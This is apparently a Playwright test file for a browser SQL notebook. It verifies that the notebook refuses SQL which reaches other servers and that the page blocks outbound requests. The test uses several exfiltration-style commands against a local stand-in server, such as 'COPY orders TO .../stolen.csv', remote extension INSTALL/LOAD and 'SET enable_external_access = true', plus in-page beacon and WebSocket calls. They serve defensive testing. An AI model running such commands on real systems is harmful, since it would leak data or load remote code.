import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { textFile, twelveCustomers } from './orderFiles.ts';
import { TailbookPage } from './TailbookPage.ts';

/** A server on another origin that lets everybody in and remembers who asked for what. */
const heard: string[] = [];
let server: Server;
let listener: string;

test.beforeAll(async () => {
  server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Access-Control-Allow-Headers', '*');
    response.setHeader('Access-Control-Allow-Methods', '*');
    response.end('a\n1\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  listener = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
test.afterAll(() => void server.close());

test.beforeEach(async () => {
  heard.length = 0;
  await fetch(`${listener}/from-node`);
  expect(heard).toEqual(['GET /from-node']);
  heard.length = 0;
});

test('no statement reaches another server: each is refused in words', async ({ page }) => {
  const statements = {
    copy_to: `COPY orders TO '${listener}/stolen.csv'`,
    copy_from: `COPY orders FROM '${listener}/planted.csv'`,
    by_read_csv: `SELECT * FROM read_csv('${listener}/read.csv')`,
    by_read_text: `SELECT * FROM read_text('${listener}/read.txt')`,
    by_read_json: `SELECT * FROM read_json('${listener}/read.json')`,
    by_read_parquet: `SELECT * FROM read_parquet('${listener}/read.parquet')`,
    by_name: `SELECT * FROM '${listener}/named.csv'`,
    a_table: `CREATE TABLE planted AS FROM read_csv('${listener}/table.csv'); SELECT * FROM planted`,
    by_query: `SELECT * FROM query('FROM read_csv(''${listener}/query.csv'')')`,
    s3: `SELECT * FROM read_csv('s3://bucket/read.csv')`,
    attach: `ATTACH '${listener}/other.duckdb' AS other`,
    install: `INSTALL httpfs FROM '${listener}'`,
    load: `LOAD '${listener}/httpfs.duckdb_extension.wasm'`,
    load_known: `LOAD httpfs`,
    unlock: `SET enable_external_access = true`
  };
  const notebook = Object.entries(statements).map(([name, sql]) => `\`\`\`sql ${name}\n${sql}\n\`\`\`\n`);
  const book = new TailbookPage(page);
  await book.open();
  await book.computed('come_back');
  await book.drop(textFile('attempts.md', `# Attempts\n\n${notebook.join('\n')}`));
  for (const name of Object.keys(statements))
    await test.step(name, async () => {
      const refusal = book.cell(`: ${name}`).getByRole('alert');
      await expect(refusal).toBeVisible();
      await expect(refusal).toHaveText(/is not run|could not run this SQL/);
      await expect(refusal).not.toHaveText(/undefined|\[object|RuntimeError/);
    });
  expect(heard).toEqual([]);
});

test('an SQL cell that is edited reaches no other server either', async ({ page }) => {
  const book = new TailbookPage(page);
  await book.open();
  await book.computed('come_back');
  const cell = book.cell('tail_once');
  await cell.getByRole('button', { name: 'Edit the SQL' }).click();
  await book.write(cell, `SELECT * FROM read_csv('${listener}/typed.csv')`);
  await expect(cell.getByRole('alert')).toHaveText(/could not run this SQL/);
  expect(heard).toEqual([]);
});

test('the page itself may not speak to another server', async ({ page }) => {
  const book = new TailbookPage(page);
  await book.open();
  await book.computed('customers_by_revenue');
  const attempts = await page.evaluate(async (address) => {
    const failed = (attempt: Promise<unknown>) =>
      attempt.then(
        () => 'went out',
        () => 'refused'
      );
    const image = (src: string) =>
      new Promise((resolve, reject) => Object.assign(new Image(), { src, onload: resolve, onerror: reject }));
    return {
      fetch: await failed(fetch(`${address}/fetch`)),
      beacon: await failed(fetch(`${address}/beacon`, { method: 'POST', keepalive: true, body: 'rows' })),
      image: await failed(image(`${address}/image.png`)),
      module: await failed(import(`${address}/module.js`)),
      socket: await failed(
        new Promise((resolve, reject) =>
          Object.assign(new WebSocket(address.replace('http', 'ws')), { onopen: resolve, onerror: reject })
        )
      )
    };
  }, listener);
  expect(attempts).toEqual({
    fetch: 'refused',
    beacon: 'refused',
    image: 'refused',
    module: 'refused',
    socket: 'refused'
  });
  expect(heard).toEqual([]);
});

test('over a whole main job nothing is asked of another origin, and no rule of the page is broken', async ({
  page,
  context,
  baseURL
}) => {
  const asked: string[] = [];
  const complaints: string[] = [];
  context.on('request', (request) => asked.push(request.url()));
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));

  const book = new TailbookPage(page);
  await book.open();
  await book.computed('come_back');
  await book.drop(twelveCustomers());
  await book.loadFiles();
  await book.computed('come_back');
  const cell = book.cell('tail_once');
  await cell.getByRole('button', { name: 'Edit the SQL' }).click();

  await test.step('a statement of more than a second goes through', async () => {
    const start = Date.now();
    await book.write(
      cell,
      'SELECT count(*) AS odd FROM range(40000) a(x), range(10000) b(y) WHERE (x * y) % 7 = 1'
    );
    await expect(cell.getByRole('row')).toHaveText([/odd/, /^[\d,]+$/]);
    expect(Date.now() - start).toBeGreaterThan(1000);
  });

  await page.keyboard.press('Escape');
  for (const format of ['SVG', 'PNG', 'CSV'])
    await book.downloaded(() => book.pareto.getByRole('button', { name: `Save as ${format}` }).click());
  await page.getByRole('button', { name: 'Share' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
  await page.getByRole('button', { name: '中文' }).click();
  await page.reload();
  await book.computed('come_back');

  const { origin } = new URL(baseURL ?? '');
  const inside = (url: string) => url.startsWith(`${origin}/`) || /^(blob|data):/.test(url);
  expect(asked.length).toBeGreaterThan(10);
  expect(asked.filter((url) => !inside(url))).toEqual([]);
  expect(complaints).toEqual([]);
  expect(heard).toEqual([]);
});
